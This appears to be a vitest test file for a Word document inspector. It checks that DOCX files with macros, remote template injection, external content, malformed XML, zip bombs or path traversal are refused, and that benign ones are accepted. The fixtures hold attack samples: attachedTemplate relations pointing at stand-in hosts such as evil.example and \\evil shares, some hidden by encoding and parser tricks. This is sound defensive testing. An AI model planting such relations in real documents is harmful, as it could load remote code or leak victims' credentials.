// Inspection of Word documents since 2007: macros, references and templates of other places, archives that grow or lie.
import { expect, it } from 'vitest';
import { inspect, noise } from '#test/files/inspect.ts';
import * as sample from '#test/files/samples.ts';
import { type ZipPart, zip } from '#test/files/zip.ts';

const EVIL = '<Relationship Target="http://evil/t.dotm" Type="x/attachedTemplate" TargetMode="External"/>';
/** Relations that a search for `Target="…"` in the text would miss. */
const hiddenTemplates: readonly (readonly [what: string, relation: string])[] = [
  ['after a quotation mark in a comment', `<!-- Target=" -->${EVIL}`],
  ['after an apostrophe in a comment', `<!-- Target=' -->${EVIL}<!-- ' -->`],
  ['after a quotation mark in an instruction', `<?x Target=" ?>${EVIL}`],
  ['after a quotation mark in character data', `<![CDATA[ Target=" ]]>${EVIL}`],
  ['after a quotation mark in another attribute', EVIL.replace('Target=', `Id="x Target='C:\\\\" Note="'" Target=`)],
  ['after a quotation mark in text', `<a>Target="</a>${EVIL}`],
  ['whose name has a prefix', EVIL.replace('<Relationship', '<r:Relationship')],
  ['in the other kind of quotation marks', EVIL.replaceAll('"', "'")],
  ['with spaces and lines about it', EVIL.replace('Target="', '\n\tTarget\r\n = \n"  ')],
  ['on a share in the notation of URLs', EVIL.replace('http://evil/t.dotm', '%5C%5Cevil%5Ct.dotm')],
  ['hidden in hexadecimal references', EVIL.replace('http:', 'http&#x3A;')],
];
const DECLARED = '<?xml version="1.0" encoding="X"?><a/>';
const REMOTE = 'https://evil.example/a?b';
/** Types of content that programs load when a document is opened. */
const LOADED = ['oleObject', 'frame', 'subDocument', 'image', 'video', 'audio', 'mailMergeSource', 'transform', 'aFChunk', 'package'];
const STRICT = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
const external: readonly (readonly [what: string, part: ZipPart])[] = [
  ...LOADED.map((type) => [`of type ${type}`, sample.referencePart(type, REMOTE)] as const),
  ['of a type of nobody', sample.referencePart('hyperlinks', REMOTE)],
  ['of a type like that of a link', sample.referencePart('hyperlink', REMOTE, { of: 'x' })],
  ['in another case', sample.referencePart('image', 'a.png', { mode: ' targetMode="EXTERNAL"' })],
  ['of a mode of nobody', sample.referencePart('image', 'a.png', { mode: ' TargetMode="Other"' })],
  ['on a share', sample.referencePart('oleObject', '\\\\evil\\a', { mode: '' })],
  ['without a mode', sample.referencePart('image', REMOTE, { mode: '' })],
  ['which calls itself internal', sample.referencePart('image', REMOTE, { mode: ' TargetMode="Internal"' })],
  ['with another scheme', sample.referencePart('oleObject', 'mhtml:http://evil!x-usc:http://evil', { mode: '' })],
  ['on a share, encoded', sample.referencePart('image', '%5c%5cevil%5ca', { mode: '' })],
  ['on the author’s disk', sample.referencePart('oleObject', 'file:///C:\\Users\\Ann\\budget.xlsx')],
];
/** Text that is not well-formed, or that parsers may read in different ways. */
const brokenXml: readonly (readonly [what: string, body: string | Buffer])[] = [
  ['are empty', ''],
  ['have no element', ' '],
  ['are a text', 'none'],
  ['have two roots', '<a/><b/>'],
  ['have text after the root', '<a/>b'],
  ['have no end', '<a><b/>'],
  ['end in another order', '<a><b></a></b>'],
  ['have an attribute twice', '<a b="1" b="2"/>'],
  ['have attributes without a space', '<a b="1"c="2"/>'],
  ['have an attribute without quotation marks', '<a b=1/>'],
  ['have a bracket in an attribute', '<a b="<"/>'],
  ['have an open attribute', '<a b="/>'],
  ['have an open comment', '<a><!-- </a>'],
  ['have hyphens in a comment', '<a><!-- -- --></a>'],
  ['have open character data', '<a><![CDATA[</a>'],
  ['have character data outside the root', '<![CDATA[]]><a/>'],
  ['have the end of character data in text', '<a>]]></a>'],
  ['have an open instruction', '<a><?x </a>'],
  ['have a second declaration', '<a><?xml version="1.0"?></a>'],
  ['are XML 1.1', '<?xml version="1.1"?><a/>'],
  ['have an entity of no one', '<a b="&t;"/>'],
  ['have an ampersand alone', '<a b="a&b"/>'],
  ['refer to no character', '<a b="&#x110000;"/>'],
  ['have a zero', '<a>\0</a>'],
  ['are Latin-1', '<a b="\xe9"/>'],
  ['are UTF-16 without a mark', Buffer.from('<a/>', 'utf16le')],
  ['declare UTF-7', DECLARED.replace('X', 'UTF-7')],
  ['declare UTF-16 and are UTF-8', DECLARED.replace('X', 'UTF-16')],
  ['have another base', '<a xml:base="http://evil/"/>'],
];

const zeros = Buffer.alloc(1024 * 1024);
const bigBody = Buffer.alloc(5 * 1024 * 1024);
const cases: [reason: string, what: string, make: () => Buffer | Promise<Buffer>][] = [
  ['macros', 'a DOCX with macros', () => sample.docx({ name: 'word/vbaProject.bin', body: 'x' })],
  ['macros', 'a DOCM', () => zip([sample.MACRO_TYPES_PART, sample.DOCUMENT_PART])],
  ['external-template', 'a DOCX with a template on the web', () => sample.docx(sample.templatePart('https://evil.example/t.dotm'))],
  ['external-template', 'one hidden in entities', () => sample.docx(sample.templatePart('&#104;ttps://evil.example/t.dotm'))],
  ['external-template', 'a DOCX with a template on a share', () => sample.docx(sample.templatePart('\\\\evil\\t.dotm'))],
  ['external-template', 'a share as a file', () => sample.docx(sample.templatePart('file://evil/t.dotm'))],
  [
    'external-template',
    'one after a bracket',
    () => sample.docx(sample.settingsPart('<Relationship Target="https://evil.example/?>t" Type="x/attachedTemplate"/>')),
  ],
  [
    'external-template',
    'one whose type is hidden in entities',
    () => sample.docx(sample.templatePart('https://evil.example/t.dotm', 'x/attached&#x54;emplate')),
  ],
  ...hiddenTemplates.map(([what, relation]): (typeof cases)[number] => [
    'external-template',
    `one ${what}`,
    () => sample.docx(sample.settingsPart(relation)),
  ]),
  [
    'external-template',
    'one in UTF-16',
    () => sample.docx({ name: sample.SETTINGS_RELATIONS, body: Buffer.from(`\ufeff<a>${EVIL}</a>`, 'utf16le') }),
  ],
  ...external.map(([what, part]): (typeof cases)[number] => [
    'external-content',
    `a DOCX with content elsewhere ${what}`,
    () => sample.docx(part),
  ]),
  ...brokenXml.map(([what, body]): (typeof cases)[number] => [
    'damaged',
    `a DOCX whose references ${what}`,
    () => sample.docx({ name: sample.SETTINGS_RELATIONS, body: typeof body === 'string' ? Buffer.from(body, 'latin1') : body }),
  ]),
  [
    'damaged',
    'a DOCX with a part of two names',
    () => sample.docx({ ...sample.templatePart('https://evil.example/t.dotm'), alias: 'a.xml' }),
  ],
  [
    'macros',
    'a DOCX with macros under another name',
    () => sample.docx(sample.settingsPart('<Relationship Target="a.bin" Type="x/vbaProject"/>')),
  ],
  ['bomb', 'one behind much else', () => sample.docx(sample.settingsPart('', noise(5_000_000).toString('base64')))],
  [
    'damaged',
    'one with entities of its own',
    () => sample.docx(sample.settingsPart('<Relationship Type="x/&t;"/>', '<!DOCTYPE x [<!ENTITY t "attachedTemplate">]>')),
  ],
  ['bomb', 'a DOCX with a part that grows a thousandfold', () => sample.docx({ name: 'word/media/a', body: bigBody })],
  ['bomb', 'a DOCX that grows to 110 MB', () => sample.docx(...Array.from({ length: 110 }, (_, n) => ({ name: `a${n}`, body: zeros })))],
  ['damaged', 'a DOCX that lies about it', () => sample.docx({ name: 'word/media/a', body: bigBody, claims: 10 })],
  ['bomb', 'a DOCX of 3,000 parts', () => sample.docx(...Array.from({ length: 3000 }, (_, n) => ({ name: `a${n}`, body: '' })))],
  ['damaged', 'a DOCX that names a way out', () => sample.docx({ name: '../../evil', body: 'x' })],
];
it.each(cases)('is refused as %s: %s', async (reason, _what, make) => {
  await expect(inspect(await make())).rejects.toMatchObject({ reason });
});

it('takes a DOCX whose template is on its author’s own disk', async () => {
  const targets = [
    'file:///C:\\Users\\Ann\\Normal.dotm',
    'C:\\Templates\\letter.dotx',
    'Normal.dotm',
    'file:///C:/Ann%20&amp;%20Bob/100%.dotm',
  ];
  for (const target of targets) expect((await inspect(sample.docx(sample.templatePart(target)))).type).toContain('wordprocessingml');
});

it('takes a DOCX with links, and with parts of its own', async () => {
  const parts = [
    sample.referencePart('hyperlink', REMOTE),
    sample.referencePart('hyperlink', 'mailto:ann@clinic.example'),
    sample.referencePart('hyperlink', REMOTE, { of: STRICT }),
    sample.referencePart('image', 'media/image1.png', { mode: '' }),
    sample.referencePart('styles', '/word/styles.xml', { mode: ' TargetMode="Internal"' }),
    sample.referencePart('oleObject', '../embeddings/oleObject1.bin', { mode: '' }),
  ];
  for (const part of parts) expect((await inspect(sample.docx(part))).type).toContain('wordprocessingml');
});

it('takes a DOCX whose references are XML in any of its forms', async () => {
  const inner =
    '<!-- - --><?x y?><![CDATA[<]]><r:Relationship Id = "1" Type=\'x/styles\' Target="a/?a=1&amp;b=&#x20;" ></r:Relationship >\n';
  const bodies = [
    `<?xml version='1.0' encoding='utf-8' standalone="yes"?>\r\n<!-- x --><a xmlns:r="b">${inner}</a >\n<?z?><!-- -->`,
    Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?><a>${inner}</a>`, 'utf16le'),
    Buffer.from(`\ufeff<a>${inner}</a>`, 'utf16le').swap16(),
    '\ufeff<a b="é"/>',
  ];
  for (const body of bodies)
    expect((await inspect(sample.docx({ name: sample.SETTINGS_RELATIONS, body }))).type).toContain('wordprocessingml');
});
